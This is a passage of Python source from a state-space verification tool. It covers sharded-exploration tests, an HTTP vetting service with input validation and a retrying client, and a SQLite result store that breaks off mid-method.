        """Sharded traces equal the single-worker traces even when the
        violating states are reachable through many commuting prefixes,
        and repeated sharded runs agree with each other."""
        _load_or_skip(load_all_apps)
        config = _diamond_violation_config()

        def job(workers):
            return VerificationJob("diamond-violation", config,
                                   EngineOptions(max_events=3,
                                                 workers=workers),
                                   strict=False)

        single = execute_job_inline(job(1))
        assert single.has_violations
        runs = [explore_sharded(job(3)) for _ in range(3)]
        for sharded in runs:
            assert (sorted(sharded.counterexamples)
                    == sorted(single.counterexamples))
            assert _rendered_traces(sharded) == _rendered_traces(single)


class TestTermination:
    def test_heavy_cross_shard_edges_terminate_exhaustively(self):
        _load_or_skip(load_all_apps)
        config = _commuting_config()
        single = execute_job_inline(VerificationJob(
            "diamonds", config, EngineOptions(max_events=3), strict=False))
        # pinned to the fingerprint scatter: the point of this test is
        # maximal cross-shard traffic, which the locality partitioner
        # (and the sender-side export dedup) deliberately removes
        sharded = explore_sharded(VerificationJob(
            "diamonds", config, EngineOptions(max_events=3, workers=3,
                                              partition="fingerprint"),
            strict=False))
        assert sharded.states_explored == single.states_explored
        assert sharded.verdict == single.verdict
        # the lattice really exercised the handoff path: most successors
        # were owned by another shard
        sent = sum(s["handoffs_sent"] for s in sharded.shard_stats)
        received = sum(s["handoffs_received"] for s in sharded.shard_stats)
        assert sent == received
        assert sent > sharded.states_explored / 2

    def test_stop_on_first_stops_every_shard(self):
        group_name = sorted(GROUP_BUILDERS)[0]
        sharded = explore_sharded(_group_job(group_name, workers=2,
                                             stop_on_first=True))
        assert sharded.has_violations

    def test_global_state_limit_truncates(self):
        group_name = sorted(GROUP_BUILDERS)[0]
        sharded = explore_sharded(_group_job(group_name, workers=2,
                                             max_states=50))
        assert sharded.truncated
        assert sharded.truncated_reason in ("max_states", "max_transitions")


# -- merged statistics --------------------------------------------------------


class TestMergedStats:
    def test_every_shard_accounted(self):
        group_name = sorted(GROUP_BUILDERS)[1]
        sharded = explore_sharded(_group_job(group_name, workers=2))
        assert sharded.workers == 2
        assert [s["worker"] for s in sharded.shard_stats] == [0, 1]
        assert sharded.states_explored == sum(
            s["states_explored"] for s in sharded.shard_stats)
        assert sharded.transitions == sum(
            s["transitions"] for s in sharded.shard_stats)
        assert sharded.visited_stats["stored"] == sharded.states_explored

    def test_shard_stats_round_trip_json(self):
        group_name = sorted(GROUP_BUILDERS)[1]
        sharded = explore_sharded(_group_job(group_name, workers=2))
        restored = ExplorationResult.from_json(sharded.to_json())
        assert restored.workers == 2
        assert restored.shard_stats == sharded.shard_stats
        assert (sorted(restored.counterexamples)
                == sorted(sharded.counterexamples))

    def test_execute_job_dispatches_on_workers_option(self):
        group_name = sorted(GROUP_BUILDERS)[2]
        result = execute_job(_group_job(group_name, workers=2))
        assert result.workers == 2
        inline = execute_job(_group_job(group_name))
        assert inline.workers == 1
        assert inline.shard_stats == []


# -- digest neutrality --------------------------------------------------------


class TestDigestNeutrality:
    def test_workers_does_not_change_the_cache_key(self):
        group_name = sorted(GROUP_BUILDERS)[0]
        assert (_group_job(group_name).cache_key()
                == _group_job(group_name, workers=4).cache_key())


class TestWorkerCountResolution:
    def test_requests_are_clamped(self):
        from repro.engine.parallel import (
            MAX_SHARD_WORKERS,
            default_shard_workers,
        )

        assert default_shard_workers(2) == 2
        assert default_shard_workers(0) >= 1
        # an absurd request (e.g. relayed from an API payload) must
        # never fork the host to death
        assert default_shard_workers(10**6) == MAX_SHARD_WORKERS
        assert default_shard_workers() <= MAX_SHARD_WORKERS


# -- graceful degradation on worker death -------------------------------------


class TestShardCrashDegradation:
    """A dying worker process yields a *partial result with a structured
    failure record*, not a raw exception: the surviving shards' coverage
    and any violations they found are still worth reporting."""

    def _killed_run(self, monkeypatch, worker_id, **option_kwargs):
        monkeypatch.setenv("REPRO_SHARD_TEST_KILL", str(worker_id))
        group_name = sorted(GROUP_BUILDERS)[0]
        return explore_sharded(_group_job(group_name, workers=2,
                                          **option_kwargs))

    def test_killed_worker_degrades_to_partial_result(self, monkeypatch):
        result = self._killed_run(monkeypatch, worker_id=1)
        failure = result.shard_failure
        assert failure is not None
        assert failure["workers"] == [1]
        assert failure["exitcodes"] == [17]  # the kill switch's exit code
        assert failure["lost_handoffs"] >= 0
        assert result.truncated
        assert result.truncated_reason == "shard_failure"
        # the surviving shard's exploration is reported, not discarded
        # (how far it got before the stop broadcast is a race, so only
        # the accounting is asserted, not a state count)
        assert [s["worker"] for s in result.shard_stats] == [0]
        assert result.states_explored == sum(
            s["states_explored"] for s in result.shard_stats)
        assert "shard failure" in result.summary()

    def test_shard_failure_round_trips_json(self, monkeypatch):
        result = self._killed_run(monkeypatch, worker_id=0)
        restored = ExplorationResult.from_json(result.to_json())
        assert restored.shard_failure == result.shard_failure
        assert restored.truncated_reason == "shard_failure"

    def test_healthy_run_reports_no_failure(self):
        group_name = sorted(GROUP_BUILDERS)[0]
        result = explore_sharded(_group_job(group_name, workers=2))
        assert result.shard_failure is None
        assert not result.truncated
