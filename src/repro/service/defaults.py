"""Light constants importable without pulling the HTTP stack.

The CLI builds its argument parser (and its ``--url`` defaults) on every
invocation, including commands that never touch the service; keeping the
shared constants dependency-free keeps ``repro apps`` & co. unaffected.
"""

#: default TCP port of ``repro serve``
DEFAULT_PORT = 8378
