"""``repro serve``: a thin JSON API over the vetting scheduler.

Stdlib only (``http.server``): one ThreadingHTTPServer whose handler
threads submit into the shared :class:`~repro.service.scheduler.Scheduler`
and read the shared :class:`~repro.service.store.ResultStore`; the
scheduler's own worker thread drains the queue through the engine's
process pool.

Endpoints::

    GET  /healthz                liveness + schema versions
    GET  /stats                  scheduler + store counters
    GET  /jobs                   known jobs, newest first
    GET  /jobs/<id>              one job's status (and verdict when done)
    GET  /jobs/<id>/progress     latest live progress snapshot for a job
    GET  /metrics                Prometheus text exposition (format 0.0.4)
    GET  /results                recent store entries (metadata)
    GET  /results/<cache_key>    full stored result, traces included
    POST /submit                 submit a configuration for vetting
    POST /gc                     evict store entries by age / count

``POST /submit`` accepts::

    {"config": {...} | "group": "<bundled group name>",
     "name": "...",                  # optional display name
     "options": {"max_events": 3, "visited": "fingerprint", ...},
     "properties": ["P06", ...],     # optional catalog selection
     "sources": {"My App": "<groovy source>", ...},  # registry overlay
     "failures": false, "all_properties": false,
     "priority": 0, "wait": 5.0}     # wait: block up to N s for a verdict

and answers the job snapshot; re-submitting an unchanged configuration
answers from the result store (``"from_cache": true``) without running
the engine.
"""

import json
import random
import threading
import time
import urllib.error
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from repro.service.defaults import DEFAULT_PORT
from repro.service.scheduler import Scheduler
from repro.service.store import STORE_SCHEMA_VERSION, ResultStore

#: EngineOptions keyword arguments a submission may set (``workers``
#: shards the job's own search and ``partition`` picks its ownership
#: strategy - pure performance knobs, excluded from the content digest,
#: so they never split the result cache)
_ALLOWED_OPTIONS = (
    "max_events", "mode", "visited", "bitstate_bits", "bitstate_salt",
    "max_states", "max_transitions", "time_limit", "stop_on_first",
    "strategy", "compiled", "engine", "slab_size", "successor_cache",
    "cache_limit", "cache_min_hit_rate", "cache_warmup", "reduction",
    "workers", "partition", "scenario", "seed", "swarm_members",
)
# deliberately NOT accepted: ``telemetry`` (a live-handle/filesystem
# concern of the host) and ``spill_dir`` (a server-side filesystem path
# a remote submitter must not choose - spill stores fall back to
# self-cleaning temp dirs)

#: most swarm members one HTTP submission may request (members run
#: serially, so this bounds per-job wall clock, not process count)
MAX_SWARM_MEMBERS = 64


class SubmissionError(ValueError):
    """A malformed submission payload (answered as HTTP 400)."""


class VettingService:
    """Scheduler + store glue shared by every handler thread."""

    def __init__(self, store, workers=None, shard_workers=None,
                 job_timeout=None):
        self.store = store
        self.scheduler = Scheduler(store, workers=workers,
                                   shard_workers=shard_workers,
                                   job_timeout=job_timeout)

    def start(self):
        self.scheduler.start()

    def shutdown(self):
        self.scheduler.stop(timeout=5.0)

    # ------------------------------------------------------------------
    # submission payloads
    # ------------------------------------------------------------------

    def submit_payload(self, payload):
        """Validate and submit one ``POST /submit`` body; returns the
        job snapshot (after an optional bounded wait)."""
        from repro.engine.batch import REGISTRY_CORPUS, VerificationJob

        config = self._payload_config(payload)
        options = self._payload_options(payload.get("options") or {})
        properties = payload.get("properties") or None
        if properties is not None and not isinstance(properties, list):
            raise SubmissionError("'properties' must be a list of ids")
        sources = payload.get("sources") or None
        if sources is not None and not isinstance(sources, dict):
            raise SubmissionError("'sources' must map app names to Groovy "
                                  "source text")
        name = payload.get("name") or self._default_name(payload, config)
        job = VerificationJob(
            name, config, options, properties=properties,
            select=not payload.get("all_properties", False),
            registry=REGISTRY_CORPUS,
            strict=False,  # match `repro check` / build_system
            enable_failures=bool(payload.get("failures", False)),
            sources=sources)
        record = self.scheduler.submit(job,
                                       priority=int(payload.get("priority", 0)))
        wait = float(payload.get("wait", 0) or 0)
        if wait > 0:
            self.scheduler.wait(record, timeout=wait)
        return record.snapshot()

    @staticmethod
    def _payload_config(payload):
        from repro.config.schema import SystemConfiguration
        from repro.corpus.groups import GROUP_BUILDERS

        if "config" in payload:
            if not isinstance(payload["config"], dict):
                raise SubmissionError("'config' must be a configuration "
                                      "object (SystemConfiguration.to_dict)")
            return SystemConfiguration.from_dict(payload["config"])
        group = payload.get("group")
        if group:
            builder = GROUP_BUILDERS.get(group)
            if builder is None:
                raise SubmissionError(
                    "unknown group %r (bundled groups: %s)"
                    % (group, ", ".join(sorted(GROUP_BUILDERS))))
            return builder()
        raise SubmissionError("a submission needs 'config' or 'group'")

    @staticmethod
    def _payload_options(options):
        from repro.engine.options import EngineOptions

        if not isinstance(options, dict):
            raise SubmissionError("'options' must be an object")
        unknown = sorted(set(options) - set(_ALLOWED_OPTIONS))
        if unknown:
            raise SubmissionError("unknown engine option(s): %s"
                                  % ", ".join(unknown))
        # the enum-valued options are only validated when the engine runs;
        # reject bad values at the API boundary instead of erroring the job
        from repro.engine.options import ENGINE_MODES, EXPLORATION_MODES
        from repro.engine.options import visited_store_names
        from repro.engine.partition import partitioner_names
        from repro.engine.strategy import strategy_names
        from repro.model.faults import scenario_names

        enums = {"visited": visited_store_names(),
                 "strategy": strategy_names(),
                 "mode": list(EXPLORATION_MODES),
                 "engine": list(ENGINE_MODES),
                 "partition": partitioner_names(),
                 "scenario": list(scenario_names())}
        for key, allowed in enums.items():
            if key in options and options[key] not in allowed:
                raise SubmissionError(
                    "bad %r option %r (allowed: %s)"
                    % (key, options[key], ", ".join(allowed)))
        if "workers" in options:
            from repro.engine.parallel import MAX_SHARD_WORKERS

            workers = options["workers"]
            # one HTTP submission must never fork the host to death:
            # bound the shard count here, before the engine sees it
            if (not isinstance(workers, int) or isinstance(workers, bool)
                    or not 1 <= workers <= MAX_SHARD_WORKERS):
                raise SubmissionError(
                    "bad 'workers' option %r (an integer 1..%d)"
                    % (workers, MAX_SHARD_WORKERS))
        if "swarm_members" in options:
            members = options["swarm_members"]
            # same spirit as the workers bound: a submission must not be
            # able to ask this host for an unbounded member fleet
            if (not isinstance(members, int) or isinstance(members, bool)
                    or not 1 <= members <= MAX_SWARM_MEMBERS):
                raise SubmissionError(
                    "bad 'swarm_members' option %r (an integer 1..%d)"
                    % (members, MAX_SWARM_MEMBERS))
        if "seed" in options and (not isinstance(options["seed"], int)
                                  or isinstance(options["seed"], bool)):
            raise SubmissionError("bad 'seed' option %r (an integer)"
                                  % (options["seed"],))
        try:
            return EngineOptions(**options)
        except (TypeError, ValueError) as exc:
            raise SubmissionError("bad engine options: %s" % exc)

    @staticmethod
    def _default_name(payload, config):
        if payload.get("group"):
            return payload["group"]
        apps = [a.instance_name for a in config.apps]
        return "+".join(apps[:3]) + ("..." if len(apps) > 3 else "") \
            if apps else "empty-config"

    # ------------------------------------------------------------------
    # reads
    # ------------------------------------------------------------------

    def job_snapshot(self, job_id):
        record = self.scheduler.job(job_id)
        return None if record is None else record.snapshot()

    def stored_result(self, cache_key):
        stored = self.store.get(cache_key)
        return None if stored is None else stored.to_dict()

    def stats(self):
        return {"scheduler": self.scheduler.stats(),
                "store": self.store.stats()}

    def job_progress(self, job_id):
        return self.scheduler.progress(job_id)

    def metrics_text(self):
        """The ``/metrics`` scrape body: a fresh registry rebuilt from
        the live scheduler/store counters and the in-process progress
        board on every scrape, so samples are a consistent
        point-in-time view (no sampling thread, no staleness)."""
        from repro.obs import PROGRESS_BOARD, MetricsRegistry
        from repro.obs.prometheus import render_exposition

        registry = MetricsRegistry()
        sched = self.scheduler.stats()
        registry.gauge(
            "repro_scheduler_jobs",
            "Jobs known to the scheduler").set(sched["jobs"])
        registry.gauge(
            "repro_scheduler_queued",
            "Heap entries awaiting a drain cycle").set(sched["queued"])
        by_status = registry.gauge("repro_scheduler_jobs_by_status",
                                   "Job records per lifecycle state")
        for status, count in sorted(sched["by_status"].items()):
            by_status.set(count, status=status)
        registry.counter(
            "repro_scheduler_executed_total",
            "Engine runs actually executed (cache hits never "
            "count)").inc(sched["executed"])
        registry.counter(
            "repro_scheduler_cache_hits_total",
            "Submissions answered from the result store").inc(
                sched["cache_hits"])
        registry.counter(
            "repro_scheduler_dedup_hits_total",
            "Submissions attached to an in-flight twin").inc(
                sched["dedup_hits"])
        store = self.store.stats()
        registry.gauge("repro_store_entries",
                       "Stored results").set(store["entries"])
        registry.counter("repro_store_hits_total",
                         "Store lookups answered").inc(store["hits"])
        registry.gauge(
            "repro_store_saved_seconds",
            "Engine seconds the cached verdicts represent").set(
                store["saved_seconds"])
        if "store_bytes" in store:
            registry.gauge("repro_store_bytes",
                           "SQLite file size").set(store["store_bytes"])
        states = registry.gauge("repro_job_states",
                                "Distinct states explored so far, per "
                                "observed job")
        transitions = registry.gauge("repro_job_transitions",
                                     "Transitions taken so far, per "
                                     "observed job")
        frontier = registry.gauge("repro_job_frontier",
                                  "Frontier size, per observed job")
        for job in PROGRESS_BOARD.jobs():
            snapshot = PROGRESS_BOARD.latest(job) or {}
            states.set(snapshot.get("states", 0), job=str(job))
            transitions.set(snapshot.get("transitions", 0), job=str(job))
            frontier.set(snapshot.get("frontier", 0), job=str(job))
        return render_exposition(registry)


class _Handler(BaseHTTPRequestHandler):
    """Routes requests onto the shared :class:`VettingService`."""

    protocol_version = "HTTP/1.1"
    #: silenced by default; ``repro serve --verbose`` re-enables
    quiet = True

    @property
    def service(self):
        return self.server.service

    def log_message(self, format, *args):  # noqa: A002
        if not self.quiet:
            BaseHTTPRequestHandler.log_message(self, format, *args)

    # -- plumbing ----------------------------------------------------------

    def _send_json(self, payload, status=200):
        body = json.dumps(payload, sort_keys=True).encode("utf-8")
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def _send_error_json(self, status, message):
        self._send_json({"error": message}, status=status)

    def _send_text(self, text, content_type, status=200):
        body = text.encode("utf-8")
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def _read_body(self):
        length = int(self.headers.get("Content-Length") or 0)
        raw = self.rfile.read(length) if length else b"{}"
        try:
            payload = json.loads(raw.decode("utf-8") or "{}")
        except (UnicodeDecodeError, json.JSONDecodeError) as exc:
            raise SubmissionError("request body is not valid JSON: %s" % exc)
        if not isinstance(payload, dict):
            raise SubmissionError("request body must be a JSON object")
        return payload

    # -- routes ------------------------------------------------------------

    def do_GET(self):  # noqa: N802
        path = self.path.split("?", 1)[0].rstrip("/") or "/"
        try:
            if path == "/healthz":
                self._send_json({
                    "status": "ok",
                    "store_schema": STORE_SCHEMA_VERSION,
                })
            elif path == "/stats":
                self._send_json(self.service.stats())
            elif path == "/metrics":
                from repro.obs.prometheus import CONTENT_TYPE

                self._send_text(self.service.metrics_text(), CONTENT_TYPE)
            elif path == "/jobs":
                self._send_json({"jobs": self.service.scheduler.jobs()})
            elif path.startswith("/jobs/") and path.endswith("/progress"):
                job_id = path[len("/jobs/"):-len("/progress")]
                progress = self.service.job_progress(job_id)
                if progress is None:
                    self._send_error_json(404, "no such job")
                else:
                    self._send_json(progress)
            elif path.startswith("/jobs/"):
                snapshot = self.service.job_snapshot(path[len("/jobs/"):])
                if snapshot is None:
                    self._send_error_json(404, "no such job")
                else:
                    self._send_json(snapshot)
            elif path == "/results":
                self._send_json({"results": self.service.store.entries()})
            elif path.startswith("/results/"):
                stored = self.service.stored_result(path[len("/results/"):])
                if stored is None:
                    self._send_error_json(404, "no stored result under "
                                               "that cache key")
                else:
                    self._send_json(stored)
            else:
                self._send_error_json(404, "unknown endpoint %s" % path)
        except Exception as exc:  # one request must never kill the server
            self._send_error_json(500, "%s: %s" % (type(exc).__name__, exc))

    def do_POST(self):  # noqa: N802
        path = self.path.split("?", 1)[0].rstrip("/")
        try:
            payload = self._read_body()
            if path == "/submit":
                self._send_json(self.service.submit_payload(payload))
            elif path == "/gc":
                max_age = payload.get("max_age")
                keep = payload.get("keep")
                removed = self.service.store.gc(
                    max_age=float(max_age) if max_age is not None else None,
                    keep=int(keep) if keep is not None else None)
                self._send_json({"removed": removed,
                                 "store": self.service.store.stats()})
            else:
                self._send_error_json(404, "unknown endpoint %s" % path)
        except SubmissionError as exc:
            self._send_error_json(400, str(exc))
        except Exception as exc:
            self._send_error_json(500, "%s: %s" % (type(exc).__name__, exc))


class VettingHTTPServer(ThreadingHTTPServer):
    """ThreadingHTTPServer carrying the shared service object."""

    daemon_threads = True

    def __init__(self, address, service, verbose=False):
        self.service = service
        handler = type("_BoundHandler", (_Handler,), {"quiet": not verbose})
        super().__init__(address, handler)


def create_server(store_path=":memory:", host="127.0.0.1", port=DEFAULT_PORT,
                  workers=None, shard_workers=None, verbose=False,
                  store=None, job_timeout=None):
    """Build (but don't run) a vetting server; returns ``(server, service)``.

    ``port=0`` binds an ephemeral free port (``server.server_address``
    reports the real one) - the tests and the CI smoke job use that.
    The scheduler's worker thread is started; call
    ``server.serve_forever()`` to serve and ``service.shutdown()`` +
    ``server.server_close()`` to tear down.  ``shard_workers`` selects
    the scheduler's sharded execution mode (each job's own search split
    across N processes, jobs drained one at a time).  ``job_timeout``
    bounds each job's wall clock (seconds; see
    :class:`~repro.service.scheduler.Scheduler`).
    """
    store = store if store is not None else ResultStore(store_path)
    service = VettingService(store, workers=workers,
                             shard_workers=shard_workers,
                             job_timeout=job_timeout)
    service.start()
    server = VettingHTTPServer((host, port), service, verbose=verbose)
    return server, service


# ---------------------------------------------------------------------------
# client
# ---------------------------------------------------------------------------


class ServiceError(RuntimeError):
    """An error answer from the vetting service."""

    def __init__(self, status, message):
        super().__init__("HTTP %d: %s" % (status, message))
        self.status = status


class ServiceClient:
    """Minimal urllib client for the vetting API (used by the CLI).

    Transient connection failures (``URLError``: refused, reset, DNS
    hiccup - *not* HTTP error answers) are retried up to ``retries``
    extra attempts with exponential backoff plus jitter
    (``backoff * 2**attempt``, scaled by a random factor in [0.5, 1.0]
    so a burst of CLI clients does not re-dogpile a restarting server).
    Only idempotent GETs retry by default: a POST that died mid-flight
    may have been applied, and resubmitting it is the *caller's* call
    (``retry_posts=True`` opts in - safe for this API because
    submissions are deduplicated by content digest).
    """

    def __init__(self, base_url, timeout=60.0, retries=2, backoff=0.25,
                 retry_posts=False):
        self.base_url = base_url.rstrip("/")
        self.timeout = timeout
        self.retries = max(0, int(retries))
        self.backoff = backoff
        self.retry_posts = retry_posts

    def _request(self, path, payload=None):
        url = self.base_url + path
        data = None
        headers = {"Accept": "application/json"}
        if payload is not None:
            data = json.dumps(payload).encode("utf-8")
            headers["Content-Type"] = "application/json"
        retries = self.retries if (payload is None or self.retry_posts) else 0
        for attempt in range(retries + 1):
            request = urllib.request.Request(url, data=data, headers=headers)
            try:
                with urllib.request.urlopen(request,
                                            timeout=self.timeout) as response:
                    return json.loads(response.read().decode("utf-8"))
            except urllib.error.HTTPError as exc:
                # the server answered: a definitive result, never retried
                try:
                    message = json.loads(exc.read().decode("utf-8")).get(
                        "error", exc.reason)
                except Exception:
                    message = str(exc.reason)
                raise ServiceError(exc.code, message)
            except urllib.error.URLError as exc:
                if attempt >= retries:
                    raise ServiceError(
                        0, "cannot reach %s (%s)%s; is `repro serve` "
                           "running?"
                           % (url, exc.reason,
                              " after %d attempts" % (attempt + 1)
                              if attempt else ""))
                time.sleep(self.backoff * (2 ** attempt)
                           * (0.5 + random.random() / 2))

    def health(self):
        return self._request("/healthz")

    def stats(self):
        return self._request("/stats")

    def submit(self, payload):
        return self._request("/submit", payload)

    def job(self, job_id):
        return self._request("/jobs/%s" % job_id)

    def job_progress(self, job_id):
        return self._request("/jobs/%s/progress" % job_id)

    def metrics(self):
        """GET /metrics: the raw Prometheus text exposition (the one
        endpoint that answers text, not JSON - parse it with
        :func:`repro.obs.prometheus.parse_exposition`)."""
        url = self.base_url + "/metrics"
        request = urllib.request.Request(url)
        try:
            with urllib.request.urlopen(request,
                                        timeout=self.timeout) as response:
                return response.read().decode("utf-8")
        except urllib.error.HTTPError as exc:
            raise ServiceError(exc.code, str(exc.reason))
        except urllib.error.URLError as exc:
            raise ServiceError(0, "cannot reach %s (%s); is `repro serve` "
                                  "running?" % (url, exc.reason))

    def jobs(self):
        return self._request("/jobs")["jobs"]

    def results(self):
        return self._request("/results")["results"]

    def result(self, cache_key):
        return self._request("/results/%s" % cache_key)

    def gc(self, max_age=None, keep=None):
        """POST /gc: evict stored entries by age (seconds) / kept count."""
        payload = {}
        if max_age is not None:
            payload["max_age"] = max_age
        if keep is not None:
            payload["keep"] = keep
        return self._request("/gc", payload)
