"""SQLite-backed content-addressed result store.

Every completed verification is recorded under its job's content digest
(:meth:`~repro.engine.batch.VerificationJob.cache_key`): verdict,
counterexample traces, attribution-ready app lists and engine statistics
all round-trip through the stable JSON schema of
:mod:`repro.engine.result`.  Re-submitting an unchanged app/configuration
pair is then a primary-key lookup instead of a state-space search.

Properties of the store:

* **schema-versioned** - entries written by an incompatible layout are a
  cache, not a source of truth, so a version mismatch resets the store
  instead of failing the service;
* **WAL mode** - the HTTP handler threads read while the scheduler
  thread writes; write-ahead logging keeps readers unblocked;
* **self-accounting** - every hit bumps ``hits``/``last_access``, which
  is what :meth:`ResultStore.gc` orders evictions by.
"""

import json
import os
import sqlite3
import threading
import time

#: bump when the table layout or the stored result schema changes
STORE_SCHEMA_VERSION = 1

_TABLES = """
CREATE TABLE IF NOT EXISTS meta (
    key TEXT PRIMARY KEY,
    value TEXT NOT NULL
);
CREATE TABLE IF NOT EXISTS results (
    cache_key      TEXT PRIMARY KEY,
    config_digest  TEXT,
    name           TEXT,
    verdict        TEXT NOT NULL,
    violations     INTEGER NOT NULL,
    states_explored INTEGER NOT NULL,
    elapsed        REAL NOT NULL,
    result_json    TEXT NOT NULL,
    config_json    TEXT,
    sources_json   TEXT,
    created        REAL NOT NULL,
    hits           INTEGER NOT NULL DEFAULT 0,
    last_access    REAL NOT NULL
);
CREATE INDEX IF NOT EXISTS idx_results_config
    ON results (config_digest);
CREATE INDEX IF NOT EXISTS idx_results_last_access
    ON results (last_access);
"""


class StoredResult:
    """One store row: metadata plus the lazily-deserialized result."""

    __slots__ = ("cache_key", "config_digest", "name", "verdict",
                 "violations", "states_explored", "elapsed", "raw_json",
                 "config", "sources", "created", "hits", "_result")

    def __init__(self, row):
        self.cache_key = row["cache_key"]
        self.config_digest = row["config_digest"]
        self.name = row["name"]
        self.verdict = row["verdict"]
        self.violations = row["violations"]
        self.states_explored = row["states_explored"]
        self.elapsed = row["elapsed"]
        self.raw_json = row["result_json"]
        self.config = (json.loads(row["config_json"])
                       if row["config_json"] else None)
        self.sources = (json.loads(row["sources_json"])
                        if row["sources_json"] else None)
        self.created = row["created"]
        self.hits = row["hits"]
        self._result = None

    @property
    def result(self):
        """The stored :class:`~repro.engine.result.ExplorationResult`."""
        if self._result is None:
            from repro.engine.result import ExplorationResult
            self._result = ExplorationResult.from_json(self.raw_json)
        return self._result

    def to_dict(self, include_result=True):
        """JSON-safe view; ``include_result`` adds the full result JSON,
        the submitted config and any uploaded sources."""
        data = {
            "cache_key": self.cache_key,
            "config_digest": self.config_digest,
            "name": self.name,
            "verdict": self.verdict,
            "violations": self.violations,
            "states_explored": self.states_explored,
            "elapsed": self.elapsed,
            "created": self.created,
            "hits": self.hits,
        }
        if include_result:
            data["result"] = json.loads(self.raw_json)
            data["config"] = self.config
            if self.sources:
                data["sources"] = self.sources
        return data

    def __repr__(self):
        return "StoredResult(%s..., %s)" % (self.cache_key[:12], self.verdict)


class ResultStore:
    """Content-addressed verdict store over one SQLite database.

    ``path`` may be ``":memory:"`` (tests, ephemeral services) or a file
    path; parent directories are created.  All methods are safe to call
    from multiple threads of one process (one shared connection behind a
    lock; cross-process sharing additionally relies on SQLite's own file
    locking, which WAL keeps cheap for readers).
    """

    def __init__(self, path=":memory:"):
        self.path = path
        if path != ":memory:":
            parent = os.path.dirname(os.path.abspath(path))
            os.makedirs(parent, exist_ok=True)
        self._lock = threading.RLock()
        self._conn = sqlite3.connect(path, check_same_thread=False)
        self._conn.row_factory = sqlite3.Row
        if path != ":memory:":
            self._conn.execute("PRAGMA journal_mode=WAL")
            self._conn.execute("PRAGMA synchronous=NORMAL")
        self._ensure_schema()

    def _ensure_schema(self):
        with self._lock, self._conn:
            self._conn.executescript(_TABLES)
            row = self._conn.execute(
                "SELECT value FROM meta WHERE key='schema_version'").fetchone()
            if row is None:
                self._conn.execute(
                    "INSERT INTO meta (key, value) VALUES (?, ?)",
                    ("schema_version", str(STORE_SCHEMA_VERSION)))
            elif int(row["value"]) != STORE_SCHEMA_VERSION:
                # stored payloads are a cache: a layout change invalidates
                # them wholesale rather than failing the service
                self._conn.execute("DELETE FROM results")
                self._conn.execute(
                    "UPDATE meta SET value=? WHERE key='schema_version'",
                    (str(STORE_SCHEMA_VERSION),))

    # ------------------------------------------------------------------
    # lookups & writes
    # ------------------------------------------------------------------

    def get(self, cache_key, touch=True):
        """The stored result for a cache key, or ``None``."""
        with self._lock:
            row = self._conn.execute(
                "SELECT * FROM results WHERE cache_key=?",
                (cache_key,)).fetchone()
            if row is None:
                return None
            if touch:
                with self._conn:
                    self._conn.execute(
                        "UPDATE results SET hits=hits+1, last_access=? "
                        "WHERE cache_key=?", (time.time(), cache_key))
            return StoredResult(row)

    def __contains__(self, cache_key):
        with self._lock:
            row = self._conn.execute(
                "SELECT 1 FROM results WHERE cache_key=?",
                (cache_key,)).fetchone()
            return row is not None

    def put(self, cache_key, result, name=None, config_digest=None,
            config=None, sources=None):
        """Record one completed verification under its content key.

        ``result`` is an :class:`~repro.engine.result.ExplorationResult`;
        ``config`` (a ``SystemConfiguration`` or plain dict) and
        ``sources`` (the job's raw-Groovy registry overlays, if any) are
        stored alongside so counterexamples can be re-rendered against a
        faithfully rebuilt system later (``repro results --trace``).
        """
        config_json = None
        if config is not None:
            config_dict = (config.to_dict()
                           if hasattr(config, "to_dict") else config)
            config_json = json.dumps(config_dict, sort_keys=True)
        sources_json = json.dumps(sources, sort_keys=True) if sources else None
        now = time.time()
        with self._lock, self._conn:
            self._conn.execute(
                "INSERT OR REPLACE INTO results (cache_key, config_digest, "
                "name, verdict, violations, states_explored, elapsed, "
                "result_json, config_json, sources_json, created, hits, "
                "last_access) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, 0, ?)",
                (cache_key, config_digest, name, result.verdict,
                 len(result.counterexamples), result.states_explored,
                 result.elapsed, result.to_json(), config_json, sources_json,
                 now, now))

    def delete(self, cache_key):
        with self._lock, self._conn:
            cursor = self._conn.execute(
                "DELETE FROM results WHERE cache_key=?", (cache_key,))
            return cursor.rowcount

    # ------------------------------------------------------------------
    # enumeration & accounting
    # ------------------------------------------------------------------

    def entries(self, limit=100, verdict=None, config_digest=None):
        """Recent entries (metadata only), newest first."""
        query = ("SELECT cache_key, config_digest, name, verdict, "
                 "violations, states_explored, elapsed, created, hits "
                 "FROM results")
        clauses, params = [], []
        if verdict is not None:
            clauses.append("verdict=?")
            params.append(verdict)
        if config_digest is not None:
            clauses.append("config_digest=?")
            params.append(config_digest)
        if clauses:
            query += " WHERE " + " AND ".join(clauses)
        query += " ORDER BY created DESC LIMIT ?"
        params.append(limit)
        with self._lock:
            rows = self._conn.execute(query, params).fetchall()
        return [dict(row) for row in rows]

    def stats(self):
        """Store counters: entries, verdict split, hits, saved seconds."""
        with self._lock:
            row = self._conn.execute(
                "SELECT COUNT(*) AS entries, "
                "COALESCE(SUM(hits), 0) AS hits, "
                "COALESCE(SUM(verdict='violated'), 0) AS violated, "
                "COALESCE(SUM(verdict='safe'), 0) AS safe, "
                "COALESCE(SUM(elapsed), 0.0) AS saved_seconds "
                "FROM results").fetchone()
        stats = dict(row)
        stats["path"] = self.path
        stats["schema_version"] = STORE_SCHEMA_VERSION
        if self.path != ":memory:" and os.path.exists(self.path):
            stats["store_bytes"] = os.path.getsize(self.path)
        return stats

    def gc(self, max_age=None, keep=None, now=None):
        """Evict entries; returns the number removed.

        ``max_age`` (seconds) drops entries older than that; ``keep``
        retains only the N most recently accessed entries.  Both may be
        combined.  The database is vacuumed after any eviction.
        """
        now = time.time() if now is None else now
        removed = 0
        with self._lock:
            with self._conn:
                if max_age is not None:
                    cursor = self._conn.execute(
                        "DELETE FROM results WHERE created < ?",
                        (now - max_age,))
                    removed += cursor.rowcount
                if keep is not None:
                    cursor = self._conn.execute(
                        "DELETE FROM results WHERE cache_key NOT IN ("
                        "SELECT cache_key FROM results "
                        "ORDER BY last_access DESC LIMIT ?)", (keep,))
                    removed += cursor.rowcount
            if removed:
                self._conn.execute("VACUUM")
        return removed

    def close(self):
        with self._lock:
            self._conn.close()

    def __enter__(self):
        return self

    def __exit__(self, *exc_info):
